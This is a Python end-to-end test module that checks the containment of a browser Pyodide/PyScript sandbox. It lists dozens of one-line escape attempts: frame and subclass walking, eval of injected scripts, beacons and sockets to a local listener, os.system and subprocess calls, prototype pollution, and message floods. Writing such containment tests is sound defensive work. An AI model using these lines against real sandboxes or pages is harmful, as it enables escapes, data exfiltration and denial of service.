"""Ways out of the sandbox in which a version runs, each as a line of Python that tries one."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from tests.e2e.explain.own import SPOT, TEXT

from stepstones.app.user_code.sandboxes import RunReport, write_report
from stepstones.core.steps import Kind, Step

WAYS = {
    "a frame, by getattr": "[f := getattr((x for x in '1'), 'gi_frame')] and js.document",
    "frames, up to the first": "climb().f_globals['__builtins__']['__import__']('js').document",
    "the page's document": "setattr(js.document, 'title', 'reached')",
    "the page's window": "setattr(js.window.document, 'title', 'reached')",
    "the parent's document": "setattr(js.parent.document, 'title', 'reached')",
    "the window on top": "setattr(js.top, 'name', 'reached')",
    "cookies": "setattr(js.document, 'cookie', 'reached=1')",
    "the store of cookies": "js.cookieStore.set('reached', '1')",
    "localStorage": "js.localStorage.setItem('reached', '1')",
    "sessionStorage": "js.sessionStorage.setItem('reached', '1')",
    "IndexedDB": "js.indexedDB.open('reached')",
    "caches": "js.caches.open('reached')",
    "the file storage": "js.navigator.storage.getDirectory()",
    "a service worker": "js.navigator.serviceWorker.register('/sw.js')",
    "fetch": "js.fetch(WHERE, js.Object.fromEntries([['mode', 'no-cors']]))",
    "fetch from our own host": "js.fetch(HOME)",
    "XMLHttpRequest": "request('GET')",
    "a beacon": "js.navigator.sendBeacon(WHERE, 'reached')",
    "a socket": "js.WebSocket.new(WHERE.replace('http', 'ws'))",
    "events": "js.EventSource.new(WHERE)",
    "WebTransport": "js.WebTransport.new(WHERE.replace('http', 'https'))",
    "WebRTC": "js.RTCPeerConnection.new().createDataChannel('reached')",
    "importScripts": "js.importScripts(WHERE)",
    "importScripts from our own host": "js.importScripts(HOME)",
    "a worker of another host": "js.Worker.new(WHERE)",
    "a worker inside": "js.Worker.new(js.URL.createObjectURL(js.Blob.new([SCRIPT])))",
    "a shared worker": "js.SharedWorker.new(HOME)",
    "eval": "js.eval(SCRIPT)",
    "a function of text": "js.Function.new(SCRIPT)()",
    "a timer of text": "js.setTimeout(SCRIPT, 0)",
    "the constructor of functions": "js.Object.constructor.new(SCRIPT)()",
    "navigation": "setattr(js.location, 'href', WHERE)",
    "navigation by a method": "js.location.assign(WHERE)",
    "a window": "js.open(WHERE)",
    "a form": "js.document.createElement('form')",
    "a notification": "js.Notification.new('reached')",
    "a channel to all pages": "js.BroadcastChannel.new('stepstones').postMessage('reached')",
    "Pyodide's loader": "pyodide('loadPackage', WHERE)",
    "Pyodide's requests": "module('pyodide.http').open_url(WHERE)",
    "Pyodide's scripts": "module('pyodide.code').run_js(SCRIPT)",
    "Pyodide's waiting": "module('pyodide.ffi').run_sync(js.fetch(WHERE))",
    "PyScript's bridge": "getattr(module('polyscript').xworker.sync, '=59317780')(2, None, SCRIPT)",
    "PyScript's window": "setattr(module('pyscript').window.document, 'title', 'reached')",
    "subclasses": "[c for c in object.__subclasses__() if 'wrap' in c.__name__][0]('reached')",
    "importlib": "module('importlib').import_module('js').document.title",
    "a socket of Python's": "module('socket').create_connection(('127.0.0.1', PORT), 1)",
    "a request of Python's": "module('urllib.request').urlopen(WHERE)",
    "a program": "module('subprocess').run(['touch', '/tmp/reached'])",
    "a shell": "module('os').system('touch /tmp/reached')",
    "prototypes": "setattr(js.Object.prototype, 'type', 'reached')",
}
"""What is tried, in Python; the names are bound by :func:`program`."""
TELLINGS = {
    "an object": "js.postMessage(js.Object.fromEntries([['cell', 1], ['text', '{}']]))",
    "a point that is none": "js.postMessage(FORGED)",
    "a flood": "[js.postMessage('x' * 1000) for _ in range(20000)]",
    "500 MB": "js.postMessage(js.ArrayBuffer.new(500_000_000))",
    "a long text": "js.Reflect.apply(js.postMessage, js.self, LONG())",
    "the runtime's own scripts": "module('ctypes').CDLL(None).emscripten_run_script(b'1')",
    "ready again": "[js.postMessage('ready') for _ in range(3)]",
}
"""What a hostile version may say in the place of an answer; then it waits."""
LIES = {
    "a number": "js.postMessage('{\"report\": 5}')",
    "prototypes": 'js.postMessage(\'{"report": {"__proto__": {"at": 1}}, "__proto__": {}}\')',
}
"""The same: texts that Python has to read."""
REACHABLE = """async () => ({
  title: document.title,
  name: window.name,
  cookie: document.cookie,
  kept: Object.keys(localStorage).filter((one) => !one.startsWith('stepstones.')),
  session: Object.keys(sessionStorage),
  bases: (await indexedDB.databases()).map(({name}) => name).sort(),
  caches: (await caches.keys()).filter((one) => one.includes('reached')),
  polluted: 'type' in Object.prototype,
  frames: document.querySelectorAll('iframe').length,
})"""
"""What of the page and of the browser's storage could have been reached."""


class Listener:
    """A server that counts whoever connects."""

    def __init__(self) -> None:
        listener = self
        self.reached: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def handle(self) -> None:
                listener.reached.append(str(self.rfile.readline(1000)))

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        """Listen no longer."""
        self.server.shutdown()
        self.server.server_close()


FORGED = write_report(RunReport(1, Step(Kind.VISIT, 99_999)))
"""A report that is right but for its point."""
_HEAD = """
import importlib


def module(name):
    return importlib.import_module(name)


js = module("js")
WHERE, HOME, PORT = {where!r}, {home!r}, {port!r}
SCRIPT = "fetch('%s').catch(() => 0); try {{ importScripts('%s') }} catch {{}}" % (WHERE, WHERE)
FORGED = {forged!r}


def LONG():
    # 300 million characters, in an array: Python itself could not take them
    return js.Array.of(300_000_000).map(js.String.prototype.repeat.bind("x"))


def climb():
    frame = module("sys")._getframe()
    while frame.f_back:
        frame = frame.f_back
    return frame


def request(way):
    one = js.XMLHttpRequest.new()
    one.open(way, WHERE, False)
    one.send()


def pyodide(name, *values):
    return getattr(module("pyodide_js"), name)(*values)


TRIED = []


def attempt(line):
    try:
        eval(line, globals())
    except BaseException:
        pass
    TRIED.append(line)


"""


def attempts() -> list[str]:
    """Return the lines that try every way, and say how many were tried."""
    return [*(f"attempt({line!r})" for line in WAYS.values()), "print('tried', len(TRIED))"]


def hostile(listener: Listener, home: str, *lines: str) -> str:
    """Return the essay on queens with lines where its first queen is put down."""
    where = f"http://127.0.0.1:{listener.port}/reached"
    words = {"where": where, "home": f"{home}/reached", "port": listener.port}
    first = _HEAD.format(**words, forged=FORGED)
    future = "from __future__ import annotations\n"
    before, _, after = TEXT.partition(future)
    inserted = "".join(f"            {line}\n" for line in lines)
    return before + future + first + after.replace(SPOT, inserted + SPOT)
